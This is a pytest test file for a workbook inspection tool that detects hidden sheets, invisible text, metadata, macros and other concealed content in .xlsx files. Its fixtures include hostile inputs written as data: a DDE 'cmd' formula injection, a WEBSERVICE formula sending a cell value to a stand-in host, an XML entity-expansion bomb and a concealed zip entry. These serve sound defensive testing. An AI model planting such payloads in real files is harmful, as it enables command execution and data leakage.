"""Workbooks made to hide something: each is found for its own reason; ordinary ones are no alarm."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, ColorScaleRule, DataBarRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table, TableStyleInfo

from fanlight.errors import CouldNotRead
from fanlight.inspection import Findings, inspect_data
from tests.inspection_files import (
    MAIN,
    REL,
    SECRET,
    book,
    edited,
    header_style,
    hide_rows,
    moved,
    sheet_part,
    strict,
    swap,
    utf16,
    white,
    with_part,
    written,
)


def checks(found: Findings) -> set[str]:
    """The checks of warning or more."""
    return {one.check for one in found if one.severity != "info"}


def _sheet(name: str, state: str) -> Callable:
    def fill(made) -> None:
        made.create_sheet(name)["A1"] = SECRET
        made[name].sheet_state = state

    return fill


def _set(**cells: object) -> Callable:
    def fill(made) -> None:
        for place, value in cells.items():
            made["Table 1"][place] = value

    return fill


def _format(code: str, value: object) -> Callable:
    def fill(made) -> None:
        made["Table 1"]["D2"] = value
        made["Table 1"]["D2"].number_format = code

    return fill


def _font(value: str = SECRET, fill_colour: str = "", **font: object) -> Callable:
    def fill(made) -> None:
        made["Table 1"]["D2"] = value
        made["Table 1"]["D2"].font = Font(**font)
        if fill_colour:
            made["Table 1"]["D2"].fill = PatternFill("solid", fgColor=fill_colour)

    return fill


def _width(**settings: object) -> Callable:
    def fill(made) -> None:
        for key, value in settings.items():
            setattr(made["Table 1"].column_dimensions["B"], key, value)

    return fill


def _row(**settings: object) -> Callable:
    def fill(made) -> None:
        for key, value in settings.items():
            setattr(made["Table 1"].row_dimensions[3], key, value)

    return fill


def _name(name: str, text: str, **more: object) -> Callable:
    def fill(made) -> None:
        made.defined_names[name] = DefinedName(name, attr_text=text, **more)

    return fill


def _validation(source: str) -> Callable:
    def fill(made) -> None:
        rule = DataValidation(type="list", formula1=source)
        rule.add("D2")
        made["Table 1"].add_data_validation(rule)

    return fill


def _rule(rule: object, area: str = "B2:B4") -> Callable:
    def fill(made) -> None:
        made["Table 1"].conditional_formatting.add(area, rule)

    return fill


def _comment(made) -> None:
    made["Table 1"]["A2"].comment = Comment(SECRET, "DC Beispiel")


def _filter(made) -> None:
    made["Table 1"].auto_filter.ref = "A1:B4"
    made["Table 1"].auto_filter.add_filter_column(0, ["Constable"])


def _scenario(data: bytes) -> bytes:
    return data.replace(
        b"<pageMargins",
        b'<scenarios><scenario name="x" count="1"><inputCells r="B2" val="99"/></scenario></scenarios><pageMargins',
        1,
    )


def _x14_hidden(data: bytes) -> bytes:
    extension = (
        '<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/'
        'spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
        '<x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type="expression" priority="1">'
        '<xm:f>TRUE</xm:f><x14:dxf><font><color rgb="FFFFFFFF"/></font></x14:dxf></x14:cfRule><xm:sqref>B2:B4</xm:sqref>'
        "</x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>"
    )
    return data.replace(b"</worksheet>", extension.encode())


def _x14_list(data: bytes) -> bytes:
    extension = (
        '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/'
        'spreadsheetml/2009/9/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidations>'
        '<x14:dataValidation type="list"><x14:formula1><xm:f>"Anna Beispiel,Bert Muster"</xm:f></x14:formula1>'
        "<xm:sqref>D2</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>"
    )
    return data.replace(b"</worksheet>", extension.encode())


def _no_records(*, records: bool) -> bytes:
    """A pivot cache: its definition lists the values of a field, with or without records."""
    definition = (
        f'<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{REL}" recordCount="2"><cacheSource type="worksheet"/>'
        '<cacheFields count="1"><cacheField name="Name"><sharedItems count="2"><s v="Anna Beispiel"/><s v="Bert Muster"/>'
        "</sharedItems></cacheField></cacheFields></pivotCacheDefinition>"
    ).encode()
    made = with_part("xl/pivotCache/pivotCacheDefinition1.xml", definition, "pivotCacheDefinition")
    if not records:
        return made
    rows = (
        f'<pivotCacheRecords xmlns="{MAIN}" count="2"><r><x v="0"/></r><r><x v="1"/></r></pivotCacheRecords>'.encode()
    )
    return with_part(
        "xl/pivotCache/pivotCacheRecords1.xml", rows, "pivotCacheRecords", "xl/pivotCache/pivotCacheDefinition1.xml",
        base=made,
    )  # fmt: skip


def _chart_of(sheet: str, *, hidden: bool) -> bytes:
    def fill(made) -> None:
        other = made.create_sheet(sheet)
        for row in range(1, 5):
            other.cell(row, 1, row * 100)
        other.sheet_state = "hidden" if hidden else "visible"
        chart = BarChart()
        chart.add_data(Reference(other, min_col=1, min_row=1, max_row=4))
        made["Table 1"].add_chart(chart, "D2")

    return book(fill)


def _entry_comment() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book())) as old, zipfile.ZipFile(out, "w") as new:
        for info in old.infolist():
            copy = zipfile.ZipInfo(info.filename)
            copy.comment = SECRET.encode() if "styles" in info.filename else b""
            new.writestr(copy, old.read(info.filename))
    return out.getvalue()


def _twice() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book())) as old, zipfile.ZipFile(out, "w") as new:
        new.writestr("xl/styles.xml", b"<first/>")
        for name in old.namelist():
            if name == "xl/styles.xml":
                name = "xl/Styles.xml"
                new.writestr(name, old.read("xl/styles.xml"))
            else:
                new.writestr(name, old.read(name))
    return out.getvalue()


def _unlisted_entry() -> bytes:
    """A local entry that the central directory does not list."""
    data = book()
    name = b"secret.txt"
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, len(SECRET), len(SECRET), len(name), 0)
    extra = local + name + SECRET.encode()
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        start = package.start_dir
    moved_end = data.rfind(b"PK\x05\x06")
    end = bytearray(data[moved_end:])
    end[16:20] = struct.pack("<I", start + len(extra))
    return data[:start] + extra + data[start:moved_end] + bytes(end)


def _drawing(shape: str) -> bytes:
    content = (
        '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
        f'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">{shape}</xdr:wsDr>'
    )
    return with_part("xl/drawings/drawing1.xml", content.encode(), "drawing", "xl/worksheets/sheet1.xml")


def _anchor(inner: str, column: int = 3, row: int = 3) -> str:
    return (
        f"<xdr:oneCellAnchor><xdr:from><xdr:col>{column}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{row}</xdr:row>"
        f'<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="900000" cy="900000"/>{inner}<xdr:clientData/>'
        "</xdr:oneCellAnchor>"
    )


TEXT_SHAPE = (
    '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="2" name="Box" {}/></xdr:nvSpPr><xdr:txBody><a:p><a:r><a:t>note</a:t></a:r></a:p>'
    "</xdr:txBody></xdr:sp>"
)
CROPPED = '<xdr:pic><xdr:blipFill><a:srcRect l="20000"/></xdr:blipFill></xdr:pic>'


def _rich_white() -> bytes:
    def fill(made, sheet) -> None:
        sheet.write_rich_string("D2", "seen ", made.add_format({"font_color": "white"}), SECRET)

    return written(fill)


def _themed(theme: int, tint: str = "") -> bytes:
    def fill(made) -> None:
        made["Table 1"]["D2"] = SECRET
        made["Table 1"]["D2"].font = Font(name="Odd")

    mark = f'<color theme="{theme}"{tint}/>'

    def change(data: bytes) -> bytes:
        assert b'<name val="Odd"/>' in data or b'<name val="Odd" />' in data
        before, _, after = data.partition(b'<name val="Odd"')
        return before + mark.encode() + b'<name val="Odd"' + after

    return edited(book(fill), {"xl/styles.xml": change})


def _late(change: Callable[[list[str]], None]) -> bytes:
    """A sheet of 6,000 rows, so that the later ones are counted and not parsed; `change` alters some of the XML rows."""
    rows = [f'<row r="{n}"><c r="A{n}"><v>{n}</v></c><c r="B{n}" t="str"><v>x</v></c></row>' for n in range(1, 6001)]
    change(rows)
    return sheet_part(
        lambda data: (
            data[: data.index(b"<sheetData>") + 11] + "".join(rows).encode() + data[data.index(b"</sheetData>") :]
        )
    )


def _late_row(index: int, row: str) -> bytes:
    def change(rows: list[str]) -> None:
        rows[index] = row

    return _late(change)


VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

HIDING: dict[str, tuple[Callable[[], bytes], str]] = {
    "hidden sheet": (lambda: book(_sheet("x", "hidden")), "sheet_hidden"),
    "very hidden sheet": (lambda: book(_sheet("x", "veryHidden")), "sheet_very_hidden"),
    "hidden sheet, strict variant": (lambda: strict(book(_sheet("x", "hidden"))), "sheet_hidden"),
    "hidden sheet, workbook in UTF-16": (
        lambda: utf16(book(_sheet("x", "hidden")), "xl/workbook.xml"), "sheet_hidden"),
    "hidden row": (lambda: book(hide_rows), "rows_hidden"),
    "hidden row, strict variant": (lambda: strict(book(hide_rows)), "rows_hidden"),
    "hidden row, sheet elsewhere": (lambda: moved(book(hide_rows)), "rows_hidden"),
    "hidden row, sheet in UTF-16": (lambda: utf16(book(hide_rows), "xl/worksheets/sheet1.xml"), "rows_hidden"),
    "hidden row, true for 1": (lambda: sheet_part(swap('hidden="1"', 'hidden="true"'), book(hide_rows)), "rows_hidden"),
    "row of no height": (lambda: sheet_part(swap('<row r="3">', '<row r="3" ht="0" customHeight="1">')), "rows_hidden"),
    "row of half a point": (lambda: book(_row(height=0.5)), "rows_hidden"),
    "folded rows": (lambda: book(_row(outlineLevel=1, hidden=True)), "rows_grouped"),
    "hidden row far down": (
        lambda: _late_row(5000, '<row r="5001" hidden="1"><c r="A5001"><v>1</v></c></row>'), "rows_hidden"),
    "hidden column": (lambda: book(_width(hidden=True)), "columns_hidden"),
    "column of no width": (lambda: sheet_part(
        swap("<sheetData>", '<cols><col min="2" max="2" width="0" customWidth="1"/></cols><sheetData>')), "columns_hidden"),
    "folded column": (lambda: book(_width(hidden=True, outlineLevel=1)), "columns_grouped"),
    "all columns of no width": (lambda: sheet_part(
        swap('defaultRowHeight="15"', 'defaultRowHeight="15" defaultColWidth="0"')), "sheet_zero_size"),
    "rows of no height by default": (lambda: sheet_part(
        swap('defaultRowHeight="15"', 'defaultRowHeight="0" customHeight="1"')), "rows_hidden"),
    "filter": (lambda: book(_filter), "filter_active"),
    "window hidden": (lambda: edited(book(), {"xl/workbook.xml": swap('visibility="visible"', 'visibility="hidden"')}),
                      "workbook_hidden"),
    "no tabs for two sheets": (lambda: edited(book(_sheet("x", "visible")), {
        "xl/workbook.xml": swap('showSheetTabs="1"', 'showSheetTabs="0"')}), "workbook_hidden"),
    "white text": (lambda: book(white), "invisible_text"),
    "nearly white text": (lambda: book(_font(color="F2F2F2")), "invisible_text"),
    "black on black": (lambda: book(_font(color="000000", fill_colour="000000")), "invisible_text"),
    "white by theme": (lambda: _themed(0), "invisible_text"),
    "white by tint": (lambda: _themed(1, ' tint="1"'), "invisible_text"),
    "white by index": (lambda: edited(book(_font(color="ABCDEF")), {
        "xl/styles.xml": swap('rgb="00ABCDEF"', 'indexed="9"')}), "invisible_text"),
    "white run": (_rich_white, "invisible_text"),
    "one point": (lambda: book(_font(sz=1)), "invisible_text"),
    "white far down": (lambda: edited(_late_row(
        5000, '<row r="5001"><c r="A5001" s="1" t="str"><v>Anna</v></c></row>'), {
            "xl/styles.xml": lambda d: edited_styles(d)}), "invisible_text"),
    "format of nothing": (lambda: book(_format(";;;", SECRET)), "format_hidden"),
    "format of nothing for a number": (lambda: book(_format(";;", 7)), "format_hidden"),
    "words in place of a number": (lambda: book(_format('"[c]"', 3)), "format_hidden"),
    "words in place of small numbers": (lambda: book(_format('[<5]"<5";0', 3)), "format_hidden"),
    "white by format": (lambda: book(_format("[White]0", 3)), "format_hidden"),
    "conditional white": (lambda: book(_rule(FormulaRule(formula=["TRUE"], font=Font(color="FFFFFF")))),
                          "conditional_hidden"),
    "conditional white, newer": (lambda: sheet_part(_x14_hidden), "conditional_hidden"),
    "bars without their values": (lambda: book(_rule(DataBarRule(
        start_type="min", end_type="max", color="FF638EC6", showValue=False))), "conditional_hidden"),
    "value under a merged cell": (lambda: sheet_part(swap(
        "<pageMargins", '<mergeCells count="1"><mergeCell ref="A1:B2"/></mergeCells><pageMargins')), "covered_cells"),
    "cell far below": (lambda: book(_set(A400=SECRET)), "far_cells"),
    "cell far right": (lambda: book(_set(BZ2=SECRET)), "far_cells"),
    "cell far below, counted": (lambda: _late(lambda rows: rows.append('<row r="9000"><c r="A9000"><v>1</v></c></row>')),
                                "far_cells"),
    "cells that are not printed": (lambda: book(lambda made: setattr(made["Table 1"], "print_area", "A1:A4")),
                                   "outside_print_area"),
    "comment": (lambda: book(_comment), "comments"),
    "threaded comment": (lambda: with_part("xl/threadedComments/threadedComment1.xml", (
        b'<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment'
        b' ref="A1" personId="{1}" id="{2}"><text>Anna</text></threadedComment></ThreadedComments>'),
        "threadedComment", "xl/worksheets/sheet1.xml"), "comments"),
    "persons": (lambda: with_part("xl/persons/person.xml", (
        b'<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><person '
        b'displayName="Anna Beispiel" id="{1}" userId="a@b.example" providerId="AD"/></personList>'), "person"),
        "persons"),
    "hidden name": (lambda: book(_name("secret", "'Table 1'!$A$1", hidden=True)), "defined_name_hidden"),
    "literal name": (lambda: book(_name("list", '"Anna;Bert"')), "defined_name_literal"),
    "array name": (lambda: book(_name("list", '{"Anna","Bert"}')), "defined_name_literal"),
    "name of a formula": (lambda: book(_name("calc", "LEFT('Table 1'!$A$1,3)&\"x\"")), "defined_name_literal"),
    "name in another file": (lambda: book(_name("out", "[1]Sheet1!$A$1")), "formula_external"),
    "name on a hidden sheet": (
        lambda: book(lambda m: (_sheet("Raw", "hidden")(m), _name("n", "Raw!$A$1")(m))), "defined_name"),
    "formula of another file": (lambda: book(_set(D2="='C:\\x\\[b.xlsx]S'!A1")), "formula_external"),
    "formula of a service": (lambda: book(_set(D2='=WEBSERVICE("https://x.example/?q="&B2)')), "formula_external"),
    "formula of another program": (lambda: book(_set(D2="=cmd|'/c calc'!A0")), "formula_external"),
    "formula of another file, far down": (lambda: _late_row(
        5000, '<row r="5001"><c r="A5001"><f>[1]S!A1</f><v>1</v></c></row>'), "formula_external"),
    "formula of a hidden sheet": (
        lambda: book(lambda m: (_sheet("Raw", "hidden")(m), _set(D2="=Raw!A1")(m))), "formula_hidden_source"),
    "list of names": (lambda: book(_validation('"Anna Beispiel,Bert Muster"')), "validation_list"),
    "list of names, newer": (lambda: sheet_part(_x14_list), "validation_list"),
    "header": (lambda: book(lambda m: setattr(m["Table 1"].oddHeader.center, "text", "Case of Anna Beispiel")),
               "header_footer"),
    "scenario": (lambda: sheet_part(_scenario), "scenarios"),
    "custom view": (lambda: sheet_part(swap("<pageMargins", '<customSheetViews><customSheetView guid="{0}"/>'
                                            "</customSheetViews><pageMargins")), "custom_view"),
    "pivot cache with records": (lambda: _no_records(records=True), "pivot_cache"),
    "pivot cache without records": (lambda: _no_records(records=False), "pivot_cache_items"),
    "external link": (lambda: with_part("xl/externalLinks/externalLink1.xml", (
        f'<externalLink xmlns="{MAIN}"><externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>9</v>'
        "</cell></row></sheetData></sheetDataSet></externalBook></externalLink>").encode(), "externalLink"), "external_link"),
    "connection": (lambda: with_part("xl/connections.xml", f'<connections xmlns="{MAIN}"/>'.encode(), "connections"),
                   "connections"),
    "data model": (lambda: with_part("xl/model/item.data", b"model", "powerPivotData"), "data_model"),
    "slicer": (lambda: with_part("xl/slicerCaches/slicerCache1.xml", b"<slicerCacheDefinition/>", "slicerCache"),
               "slicers"),
    "query": (lambda: with_part("customXml/item1.xml", b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAA='
                                b"</DataMashup>", "customXml"), "queries"),
    "custom XML": (lambda: with_part("customXml/item1.xml", b"<p><owner>Anna</owner></p>", "customXml"), "custom_xml"),
    "history of changes": (lambda: with_part("xl/revisions/revisionHeaders.xml", f'<headers xmlns="{MAIN}"/>'.encode(),
                                             "revisionHeaders"), "revisions"),
    "macros": (lambda: with_part("xl/vbaProject.bin", VBA, "vbaProject"), "macros"),
    "macros under another name": (lambda: with_part("xl/theme/thema.xml.bin", VBA, "vbaProject"), "macros"),
    "macro sheet": (lambda: with_part("xl/macrosheets/sheet1.xml", f'<xm:macrosheet xmlns:xm="{MAIN}"/>'.encode(),
                                      "xlMacrosheet"), "macro_sheet"),
    "control": (lambda: with_part("xl/ctrlProps/ctrlProp1.xml", b"<formControlPr/>", "ctrlProp",
                                  "xl/worksheets/sheet1.xml"), "active_x"),
    "workbook within": (lambda: with_part("xl/embeddings/a.xlsx", book(_sheet("x", "hidden")), "package",
                                          "xl/worksheets/sheet1.xml"), "sheet_hidden"),
    "path of saving": (lambda: edited(book(), {"xl/workbook.xml": swap(
        "<bookViews>", '<x15ac:absPath xmlns:x15ac="urn:x" url="C:\\Users\\anna\\Desktop\\"/><bookViews>')}),
        "properties_person"),
    "unused string": (lambda: edited(written(lambda m, s: None), {"xl/sharedStrings.xml": swap(
        "</sst>", f"<si><t>{SECRET}</t></si></sst>")}), "unused_strings"),
    "orphan sheet": (lambda: edited(book(), {"xl/worksheets/sheet9.xml": b"<worksheet/>"}), "orphan_sheet"),
    "sheet of no list": (lambda: with_part("xl/worksheets/s9.xml", f'<worksheet xmlns="{MAIN}"/>'.encode(), "worksheet"),
                         "orphan_sheet"),
    "orphan part": (lambda: edited(book(), {"notes.txt": SECRET.encode()}), "orphan_part"),
    "trash": (lambda: edited(book(), {"[trash]/0000.dat": SECRET.encode()}), "orphan_part"),
    "part that none knows": (lambda: with_part("xl/odd.bin", b"x", "neverHeardOf"), "unknown_part"),
    "zip comment": (lambda: edited(book(), {}, SECRET.encode()), "zip_comment"),
    "comment on an entry": (_entry_comment, "zip_comment"),
    "bytes after the end": (lambda: book() + SECRET.encode(), "bytes_outside"),
    "bytes before the start": (lambda: b"#!" + SECRET.encode() + book(), "bytes_outside"),
    "entry that is not listed": (_unlisted_entry, "bytes_outside"),
    "two parts with one name": (_twice, "orphan_part"),
    "comment in the XML": (lambda: sheet_part(swap("<sheetData>", f"<!-- {SECRET} --><sheetData>")), "xml_comment"),
    "instruction in the XML": (lambda: sheet_part(swap("<sheetData>", f"<?note {SECRET}?><sheetData>")), "xml_comment"),
    "comment in the workbook's XML": (lambda: edited(book(), {"xl/workbook.xml": swap(
        "<sheets>", f"<!-- {SECRET} --><sheets>")}), "xml_comment"),
    "text beside a cell's value": (lambda: sheet_part(swap(
        "</sheetData>", '<row r="9"><c r="A9"><v>1</v><is><t>Anna</t></is></c></row></sheetData>')), "xml_comment"),
    "element of nobody's": (lambda: sheet_part(swap(
        "</worksheet>", '<extLst><ext uri="{x}"><z:n xmlns:z="urn:z">Anna</z:n></ext></extLst></worksheet>')),
        "unknown_part"),
    "hidden row in a section of characters": (lambda: sheet_part(swap("<sheetData>", '<sheetData><row r="1" hidden="1">'
        '<c r="A1" t="str"><v><![CDATA[</row>x]]></v></c></row>')), "rows_hidden"),
    "hidden row in single quotes": (lambda: sheet_part(swap(
        "<sheetData>", "<sheetData><row r='1' hidden='1'><c r='A1'><v>1</v></c></row>")), "rows_hidden"),
    "hidden row by a character's number": (lambda: sheet_part(swap(
        "<sheetData>", '<sheetData><row r="1" hidden="&#49;"><c r="A1"><v>1</v></c></row>')), "rows_hidden"),
    "hidden shape": (lambda: _drawing(_anchor(TEXT_SHAPE.format('hidden="1"'))), "shape_hidden"),
    "shape out of sight": (lambda: _drawing(_anchor(TEXT_SHAPE.format(""), column=900)), "off_sheet"),
    "path of a picture": (lambda: _drawing(_anchor(TEXT_SHAPE.format('descr="C:\\Users\\anna\\x.png"'))),
                          "picture_metadata"),
    "cropped picture": (lambda: _drawing(_anchor(CROPPED)), "cropped"),
    "author": (lambda: book(lambda m: setattr(m.properties, "creator", "Anna Beispiel")), "properties_person"),
    "description": (lambda: book(lambda m: setattr(m.properties, "description", "from CRIS 01/2345/22")),
                    "properties_person"),
    "local link": (lambda: book(lambda m: setattr(m["Table 1"]["A2"], "hyperlink", "file:///S:/cases/a.docx")),
                   "hyperlinks_local"),
    "chart of a hidden sheet": (lambda: _chart_of("Raw", hidden=True), "chart_cache"),
    "sheet with a prefix": (lambda: edited(book(hide_rows), {"xl/worksheets/sheet1.xml": lambda d: prefixed(d)}),
                            "rows_hidden"),
}  # fmt: skip


def edited_styles(data: bytes) -> bytes:
    """A second cell format whose font is white."""
    data = data.replace(b"</fonts>", b'<font><color rgb="FFFFFFFF"/><sz val="11"/></font></fonts>')
    fonts = data.count(b"<font>") - 1 - data[data.index(b"</fonts>") :].count(b"<font>")
    return data.replace(b"</cellXfs>", f'<xf fontId="{fonts}" fillId="0" numFmtId="0"/></cellXfs>'.encode())


def prefixed(data: bytes) -> bytes:
    import re

    data = data.replace(b"xmlns=", b"xmlns:x=")
    return re.sub(rb"<(/?)(?=[a-zA-Z])(?!\?)", rb"<\1x:", data)


@pytest.mark.parametrize("name", sorted(HIDING))
def test_what_is_hidden_is_found_for_its_reason(name: str) -> None:
    make, check = HIDING[name]
    assert check in checks(inspect_data("file.xlsx", make()))


def _table(made) -> None:
    table = Table(displayName="Numbers", ref="A1:B4")
    table.tableStyleInfo = TableStyleInfo(name="TableStyleMedium9", showRowStripes=True)
    made["Table 1"].add_table(table)


def _table_white(made) -> None:
    _table(made)
    made["Table 1"]["A1"].font = Font(color="FFFFFF")


def _chart(made) -> None:
    chart = BarChart()
    chart.add_data(Reference(made["Table 1"], min_col=2, min_row=1, max_row=4), titles_from_data=True)
    made["Table 1"].add_chart(chart, "D2")


def _plain_filter(made) -> None:
    made["Table 1"].auto_filter.ref = "A1:B4"


ORDINARY: dict[str, Callable[[], bytes]] = {
    "plain": book,
    "plain by xlsxwriter": lambda: written(lambda m, s: None),
    "strict variant": lambda: strict(book()),
    "elsewhere": lambda: moved(book()),
    "header in white on blue": lambda: book(header_style),
    "sum": lambda: book(_set(B5="=SUM(B2:B4)")),
    "formula of another sheet": lambda: book(lambda m: (_sheet("Other", "visible")(m), _set(B5="=Other!A1")(m))),
    "structured reference": lambda: book(_set(B5="=SUM(Numbers[Number])")),
    "date": lambda: book(_format("dd/mm/yyyy", 45000)),
    "accounting": lambda: book(_format('_-* #,##0_-;-* #,##0_-;_-* "-"??_-;_-@_-', 7)),
    "zeros as dashes": lambda: book(_format('#,##0;-#,##0;"-"', 0)),
    "zeros as nothing": lambda: book(_format("#,##0;-#,##0;", 7)),
    "units in words": lambda: book(_format('0" people"', 7)),
    "filter without a choice": lambda: book(_plain_filter),
    "table": lambda: book(_table),
    "table with white headers": lambda: book(_table_white),
    "chart": lambda: book(_chart),
    "chart by xlsxwriter": lambda: written(_written_chart),
    "chart of another sheet": lambda: _chart_of("Other", hidden=False),
    "colour scale": lambda: book(_rule(ColorScaleRule(start_type="min", start_color="FFFFFF", end_type="max",
                                                      end_color="FF0000"))),
    "red for high": lambda: book(_rule(CellIsRule(operator="greaterThan", formula=["30"], font=Font(color="FF0000")))),
    "zeros blanked": lambda: book(_rule(CellIsRule(operator="equal", formula=["0"], font=Font(color="FFFFFF")))),
    "yes or no": lambda: book(_validation('"Yes,No"')),
    "list of what is shown": lambda: book(_validation('"Constable,Sergeant"')),
    "list from a range": lambda: book(_validation("$A$2:$A$4")),
    "name of a range": lambda: book(_name("Ranks", "'Table 1'!$A$2:$A$4")),
    "print area": lambda: book(lambda m: setattr(m["Table 1"], "print_area", "A1:B4")),
    "print titles": lambda: book(lambda m: setattr(m["Table 1"], "print_title_rows", "1:1")),
    "page number": lambda: book(lambda m: setattr(m["Table 1"].oddFooter.center, "text", "Page &P of &N")),
    "marking": lambda: book(lambda m: setattr(m["Table 1"].oddHeader.center, "text", "OFFICIAL")),
    "merged title": lambda: book(lambda m: (_set(D1="Title")(m), m["Table 1"].merge_cells("D1:F1"))),
    "frozen panes": lambda: book(lambda m: setattr(m["Table 1"], "freeze_panes", "A2")),
    "web link": lambda: book(lambda m: setattr(m["Table 1"]["A2"], "hyperlink", "https://www.example.org/")),
    "unused columns hidden": lambda: sheet_part(
        swap("<sheetData>", '<cols><col min="3" max="16384" width="9" hidden="1"/></cols><sheetData>')),
    "unused rows hidden": lambda: written(lambda m, s: s.set_default_row(hide_unused_rows=True)),
    "groups unfolded": lambda: book(_row(outlineLevel=1)),
    "rich text in red": lambda: written(
        lambda m, s: s.write_rich_string("D2", "a ", m.add_format({"font_color": "red"}), "b")),
    "grey text": lambda: book(_font("note", color="808080")),
    "notes below": lambda: book(_set(A12="Source: records", A20="Note 1")),
    "text box": lambda: _drawing(_anchor(TEXT_SHAPE.format(""))),
    "rows as LibreOffice writes them": lambda: sheet_part(swap(
        '<row r="2">', '<row r="2" customFormat="false" ht="12.8" hidden="false" outlineLevel="0" collapsed="false">')),
    "6,000 rows": lambda: _late(lambda rows: None),
    "prefix": lambda: edited(book(), {"xl/worksheets/sheet1.xml": prefixed}),
    "utf-16": lambda: utf16(book(), "xl/worksheets/sheet1.xml"),
}  # fmt: skip


def _written_chart(made, sheet) -> None:
    chart = made.add_chart({"type": "column"})
    chart.add_series({"values": "='Table 1'!$B$2:$B$4", "categories": "='Table 1'!$A$2:$A$4"})
    sheet.insert_chart("D2", chart)


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_an_ordinary_workbook_is_no_alarm(name: str) -> None:
    found = inspect_data("file.xlsx", ORDINARY[name]())
    assert checks(found) == set(), [(one.check, one.where, one.sample) for one in found if one.severity != "info"]


def test_findings_say_how_much_and_where_and_never_what() -> None:
    def fill(made) -> None:
        for row in range(2, 5):
            made["Table 1"].cell(row, 6, SECRET).font = Font(color="FFFFFF")

    (one,) = [f for f in inspect_data("f.xlsx", book(fill)) if f.check == "invisible_text"]
    assert (one.count, one.where, one.place.sheet, one.place.cells) == (3, "Table 1!F2:F4", "Table 1", "F2:F4")
    assert one.sample == "Xx Xx 0 0"


def test_a_row_is_counted_the_same_parsed_or_not() -> None:
    """The rows that are only counted and the rows that are parsed must tell the same tale."""
    from fanlight.inspection.ooxml.workbook.scan import Scanner
    from fanlight.inspection.ooxml.workbook.strings import Strings
    from fanlight.inspection.opened import Opened

    def odd(rows: list[str]) -> None:
        for number in range(3500, 4400):  # as other programs write every row
            rows[number] = rows[number].replace(
                ">", ' ht="12.8" hidden="false" customHeight="false" outlineLevel="0">', 1
            )
        rows[4300] = rows[4300].replace('"false"', '"true"', 1)
        rows[4310] = rows[4310].replace('"12.8"', '"0.75"', 1)
        rows[4500] = (
            '<row r="4501" ht="0" customHeight="1"><c r="B4501" t="inlineStr"><is><t>a&amp;b</t></is></c></row>'
        )
        rows[4600] = '<row r="4601"><c r="D4601"><f>1+1</f><v>2</v></c><c r="E4601"/></row>'
        rows[4700] = '<row r="4701" hidden="1"/>'
        rows[4800] = '<row spans="1:2" r="4801"><c s="0" r="C4801"><v>1</v></c></row>'

    data = _late(odd)
    tales = []
    for every in (False, True):
        scanner = Scanner(Strings(), set(), set(), every=every)
        stream = Opened("f.xlsx", data).parts.open("xl/worksheets/sheet1.xml")
        list(scanner.cells(stream))
        scan = scanner.scan
        hidden = [(row.number, row.filled, row.level) for row in scan.hidden]
        tales.append(
            (scan.rows, scan.filled, dict(scan.columns), scan.formulas, scan.gaps, scan.last_row, scan.sized, hidden)
        )
    assert tales[0] == tales[1]


@pytest.mark.parametrize(
    ("data", "check"),
    [
        (b"", "damaged"),
        (b"PK\x03\x04 and no more", "damaged"),
        (book()[:-200], "damaged"),
        (b"\x00\x01\x02\x03" * 99, "unknown_format"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 3000, "damaged"),
    ],
)
def test_what_cannot_be_read_says_why(data: bytes, check: str) -> None:
    with pytest.raises(CouldNotRead) as caught:
        inspect_data("file.xlsx", data)
    assert caught.value.check == check


def test_entities_and_document_types_are_refused() -> None:
    bomb = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    for part in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/styles.xml"):
        with pytest.raises(CouldNotRead):
            inspect_data("f.xlsx", edited(book(), {part: lambda data: bomb + data}))


def test_a_cell_or_row_given_twice_is_found() -> None:
    plain = book(lambda _: None)
    with zipfile.ZipFile(io.BytesIO(plain)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml")
    twice = b'<row r="900"><c r="A900"><v>5</v></c><c r="A900"><v>6</v></c></row>'
    rows = b'<row r="900"><c r="A900"><v>5</v></c></row>' * 2
    stray = b'<row r="900"><c r="A901"><v>5</v></c></row>'
    once = b'<row r="900"><c r="A900"><v>5</v></c><c r="B900"><v>6</v></c></row>'
    for more, bad in ((twice, True), (rows, True), (stray, True), (once, False)):
        made = edited(plain, {"xl/worksheets/sheet1.xml": sheet.replace(b"</sheetData>", more + b"</sheetData>")})
        checks = {found.check for found in inspect_data("twice.xlsx", made)}
        assert ("covered_cells" in checks) is bad, more
